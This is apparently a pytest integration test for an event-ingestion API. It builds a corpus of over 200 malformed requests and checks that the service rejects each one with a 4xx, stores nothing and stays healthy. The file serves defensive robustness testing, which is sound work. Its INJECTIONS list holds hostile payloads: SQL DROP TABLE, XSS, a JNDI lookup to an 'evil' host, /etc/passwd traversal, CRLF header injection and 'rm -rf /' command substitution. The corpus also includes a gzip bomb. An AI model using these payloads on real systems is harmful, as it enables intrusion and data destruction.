"""A generated corpus of bad input: every case gets a 4xx, none a 5xx, nothing is produced,
and the service is healthy afterwards."""

from __future__ import annotations

import gzip
import itertools
import uuid
import zlib
from typing import Any

import httpx
import orjson
import pytest

pytestmark = pytest.mark.integration

JSON = {"content-type": "application/json"}
INJECTIONS = [
    "'; DROP TABLE ingest.accepted_events; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=y",
    "$(rm -rf /)",
]


def good(tag: str) -> dict[str, Any]:
    return {
        "event_id": f"corpus-{tag}-{uuid.uuid4().hex}",
        "type": "survey_response",
        "occurred_at": "2026-03-01T00:00:00Z",
        "identifiers": {"user_id": "u"},
        "properties": {"nps": 5},
    }


def nested(depth: int) -> Any:
    value: Any = "leaf"
    for _ in range(depth):
        value = {"a": value}
    return value


def corpus() -> list[tuple[str, str, bytes, dict[str, str]]]:
    """(case id, route, raw body, extra headers)."""
    cases: list[tuple[str, str, bytes, dict[str, str]]] = []

    def native(case: str, ev: Any) -> None:
        cases.append((case, "/v1/events", orjson.dumps(ev), {}))

    # Broken JSON.
    broken = [
        b"",
        b"{",
        b"}",
        b"[",
        b'{"a":}',
        b'{"a" 1}',
        b"{'a': 1}",
        b"nul",
        b"tru",
        b'{"a": 1,}',
        b"[1,]",
        b'{"a": "unterminated}',
        b"NaN",
        b"Infinity",
        b"1e400",
        b'{"a": 1e999}',
        b"\xef\xbb\xbf{}",
        b'{"a": 01}',
        b'{"a": .5}',
        b"/* c */ {}",
    ]
    for i, raw in enumerate(broken):
        cases.append((f"broken-json-{i}", "/v1/events", raw, {}))
        cases.append((f"broken-json-batch-{i}", "/v1/events/batch", raw, {}))
        cases.append((f"broken-json-segment-{i}", "/v1/batch", raw, {}))
    # Not an object / wrong top-level shapes.
    for i, value in enumerate(
        [
            [],
            [good("x")],
            1,
            "s",
            None,
            True,
            {"events": {}},
            {"events": "x"},
            {"events": []},
            {"events": None},
        ]
    ):
        cases.append((f"shape-batch-{i}", "/v1/events/batch", orjson.dumps(value), {}))
        cases.append(
            (
                f"shape-segment-{i}",
                "/v1/batch",
                orjson.dumps({"batch": value} if i >= 6 else value),
                {},
            )
        )
        native(f"shape-native-{i}", value if i < 6 else value.get("events"))
    # Wrong types, field by field.
    wrong: dict[str, list[Any]] = {
        "event_id": [None, 1, 1.5, True, [], {}, "", "has space", "x" * 200],
        "type": [None, 1, "", "Bad Type", "9lives", "x" * 80, []],
        "channel": [1, "", "Web", "a b", {}],
        "occurred_at": [
            None,
            1700000000,
            "yesterday",
            "2026-13-01T00:00:00Z",
            "2026-03-01T00:00:00",
            "3026-01-01T00:00:00Z",
            "1970-01-01T00:00:00Z",
            [],
        ],
        "identifiers": [
            None,
            [],
            "u",
            1,
            {},
            {"user_id": 1},
            {"user_id": ""},
            {"unknown": "x"},
            {"user_id": None},
            {"email": ["a"]},
        ],
        "traits": [[], "x", 1],
        "properties": [
            [],
            "x",
            1,
            {"nps": 11},
            {"nps": -1},
            {"nps": "9"},
            {"nps": 9.5},
            {"nps": True},
            {"csat": 6},
            {"ces": 0},
            {},
            {"nps": None},
            {"nps": 2**62},
            {"comment": 5},
        ],
        "context": [[], "x", {"page": "x"}, {"experiment": {"id": 1}}, {"locale": 5}],
        "touchpoint": [1, "", "x" * 200],
    }
    for field, values in wrong.items():
        for i, value in enumerate(values):
            ev = good("wrong")
            ev[field] = value
            native(f"wrong-{field}-{i}", ev)
    # Typed properties per known type.
    typed = {
        "purchase": [
            {},
            {"order_id": "o"},
            {"order_id": "o", "amount": -1, "currency": "JPY"},
            {"order_id": "o", "amount": 1, "currency": "yen"},
            {"order_id": "o", "amount": 1, "currency": "JPY", "items": [{}]},
            {
                "order_id": "o",
                "amount": 1,
                "currency": "JPY",
                "items": [{"sku": "s", "quantity": 0}],
            },
            {"order_id": "o", "amount": "1", "currency": "JPY"},
        ],
        "support_contact": [{}, {"reason": "r", "wait_seconds": -5}, {"reason": 1}],
        "feedback": [{}, {"comment": ""}, {"comment": "x", "rating": 9}],
        "review": [{}, {"rating": 0}, {"rating": "5"}],
        "experiment_exposure": [{}, {"experiment_id": "e"}],
        "store_visit": [{}],
        "payment": [{}, {"amount": 1, "currency": "X"}],
        "delivery": [{}, {"order_id": "o"}],
        "return": [{}, {"order_id": "o", "kind": "steal"}],
        "screen_view": [{"name": 5}],
    }
    for type_, props_list in typed.items():
        for i, props in enumerate(props_list):
            ev = good("typed")
            ev["type"], ev["properties"] = type_, props
            native(f"typed-{type_}-{i}", ev)
    # Huge numbers, deep nesting, NUL, unknown top-level fields.
    for i, raw in enumerate([b"1" * 5000, b"-" + b"9" * 400, b"1e308" * 2]):
        body = orjson.dumps(good("num")).replace(b'"nps":5', b'"nps":' + raw)
        cases.append((f"huge-number-{i}", "/v1/events", body, {}))
    for depth in (11, 20, 200, 2000):
        ev = good("deep")
        ev["type"], ev["properties"] = "custom_deep", nested(depth)
        body = (
            orjson.dumps(ev)
            if depth < 500
            else (b'{"properties":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}")
        )
        cases.append((f"deep-{depth}", "/v1/events", body, {}))
    for field in ("event_id", "type", "channel"):
        ev = good("nul")
        ev[field] = "a\x00b"
        native(f"nul-{field}", ev)
    for where in ("traits", "properties", "context"):
        ev = good("nul")
        ev["type"] = "custom_nul"
        ev[where] = {"k": "a\x00b"}
        native(f"nul-in-{where}", ev)
    ev = good("extra")
    ev["unexpected"] = 1
    native("unknown-field", ev)
    # Missing identifiers and required fields.
    for field in ("event_id", "type", "occurred_at", "identifiers"):
        ev = good("missing")
        del ev[field]
        native(f"missing-{field}", ev)
    # Invalid UTF-8 and lone surrogates.
    for i, raw in enumerate([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"]):
        body = orjson.dumps(good("utf")).replace(b'"u"', b'"u' + raw + b'"')
        cases.append((f"bad-utf8-{i}", "/v1/events", body, {}))
    body = orjson.dumps(good("sur")).replace(b'"u"', b'"\\ud800"')
    cases.append(("lone-surrogate", "/v1/events", body, {}))
    # Injection strings where they do not belong.
    for i, (field, inj) in enumerate(
        itertools.product(("event_id", "type", "channel", "occurred_at"), INJECTIONS)
    ):
        ev = good("inj")
        ev[field] = inj
        native(f"injection-{i}", ev)
    for i, inj in enumerate(INJECTIONS):
        ev = good("inj")
        ev["identifiers"] = {inj: "x"}
        native(f"injection-identifier-key-{i}", ev)
    # Segment messages.
    seg_bad = [
        {"type": "track", "event": "x", "userId": "u"},  # no messageId
        {"type": "track", "messageId": "m", "userId": "u"},  # no event
        {"type": "track", "messageId": "m", "event": "x"},  # no identifiers
        {"type": "bogus", "messageId": "m", "userId": "u"},
        {"type": "group", "messageId": "m", "userId": "u"},  # no groupId
        {"type": "alias", "messageId": "m", "userId": "u"},  # no previousId
        {"type": "track", "messageId": "m", "event": "x", "userId": {}},
        {"type": "track", "messageId": "m", "event": "x", "userId": "u", "timestamp": "soon"},
        {"type": "track", "messageId": "m", "event": "x", "userId": "u", "properties": []},
        {"type": "track", "messageId": "m", "event": "x", "userId": "u", "context": "c"},
        {"type": "track", "messageId": "m a", "event": "x", "userId": "u"},
        {
            "type": "track",
            "messageId": "m",
            "event": "Order Completed",
            "userId": "u",
            "properties": {"total": "lots"},
        },
        "not an object",
    ]
    for i, msg in enumerate(seg_bad):
        cases.append((f"segment-batch-{i}", "/v1/batch", orjson.dumps({"batch": [msg]}), {}))
    cases.append(
        ("segment-batch-context", "/v1/batch", orjson.dumps({"batch": [{}], "context": "x"}), {})
    )
    cases.append(
        ("segment-batch-sentat", "/v1/batch", orjson.dumps({"batch": [{}], "sentAt": 5}), {})
    )
    # Oversize: single event, batch bytes, batch count; gzip bomb; truncated/garbage gzip.
    big = good("big")
    big["properties"]["comment"] = "x" * 33_000
    native("oversize-event", big)
    cases.append(
        ("oversize-batch", "/v1/events/batch", orjson.dumps({"events": [good("b")] * 3000}), {})
    )
    cases.append(("too-many-events", "/v1/events/batch", orjson.dumps({"events": [1] * 2501}), {}))
    cases.append(
        ("oversize-segment", "/v1/batch", orjson.dumps({"batch": [{"x": "y" * 600_000}]}), {})
    )
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    bomb = b"".join(comp.compress(b"\0" * (1 << 20)) for _ in range(64)) + comp.flush()
    gz = {"content-encoding": "gzip"}
    cases.append(("gzip-bomb", "/v1/batch", bomb, gz))
    cases.append(("gzip-bomb-native", "/v1/events", bomb, gz))
    cases.append(("gzip-truncated", "/v1/batch", gzip.compress(b'{"batch": []}')[:-6], gz))
    cases.append(("gzip-garbage", "/v1/batch", b"definitely not gzip", gz))
    cases.append(("gzip-of-garbage", "/v1/batch", gzip.compress(b"\xff\xfe"), gz))
    cases.append(("gzip-trailing", "/v1/batch", gzip.compress(b"{}") + b"junk", gz))
    # Wrong content types / encodings.
    for i, ct in enumerate(
        [
            "text/html",
            "application/xml",
            "multipart/form-data",
            "application/x-www-form-urlencoded",
            "",
        ]
    ):
        cases.append(
            (f"content-type-{i}", "/v1/events", orjson.dumps(good("ct")), {"content-type": ct})
        )
    cases.append(
        ("encoding-br", "/v1/events", orjson.dumps(good("br")), {"content-encoding": "br"})
    )
    return cases


CASES = corpus()


def test_corpus_is_large_enough() -> None:
    assert len(CASES) >= 200, len(CASES)
    assert len({c[0] for c in CASES}) == len(CASES)


async def test_every_bad_input_is_a_4xx_and_nothing_is_produced(service, web_auth) -> None:
    answers: dict[int, list[str]] = {}
    for case, route, body, extra in CASES:
        headers = {**JSON, **extra}
        r = await service.client.post(route, content=body, headers=headers, auth=web_auth)
        answers.setdefault(r.status_code, []).append(case)
    not_4xx = {code: cases for code, cases in answers.items() if not 400 <= code < 500}
    assert not not_4xx, not_4xx
    assert set(answers) <= {400, 413, 415}, {k: v[:5] for k, v in answers.items()}
    produced = [t.event_id for _, t in await service.touchpoints()]
    assert not [e for e in produced if e.startswith("corpus-")]
    assert (await service.client.get("/healthz")).status_code == 200
    assert (await service.client.get("/readyz")).status_code == 200
    ok = await service.client.post("/v1/events", json=good("after"), auth=web_auth)
    assert ok.status_code == 200


async def test_unauthenticated_corpus_is_401_not_5xx(service) -> None:
    for case, route, body, extra in CASES[::10]:
        r = await service.client.post(
            route, content=body, headers={**JSON, **extra}, auth=httpx.BasicAuth("bad", "")
        )
        assert r.status_code == 401, case
